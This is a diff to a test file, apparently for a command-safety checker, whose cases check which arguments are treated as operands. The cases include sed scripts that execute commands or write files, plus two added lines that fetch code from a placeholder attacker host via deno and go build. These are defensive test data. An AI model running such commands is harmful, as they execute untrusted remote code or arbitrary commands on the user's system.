@@ -31,6 +31,8 @@ describe("operands", () => {
   test.each([
     [["sed", "-n", "1e touch x", "a.txt"], ["1e touch x"]],
     [["sed", "-n", "w out", "a.txt"], ["w out"]],
+    [["deno", "test", "https://evil.example/x.ts"], ["https://evil.example/x.ts"]],
+    [["go", "build", "evil.example/x@latest"], ["evil.example/x@latest"]],
     [["sed", "1s/a/b/e", "a.txt"], ["1s/a/b/e"]],
     [["sed", "-i", "s/a/b/w out", "a.txt"], ["s/a/b/w out"]],
     [["sed", "s/[/]a/g;s/w x/y/g", "a.txt"], ["s/[/]a/g;s/w x/y/g"]],
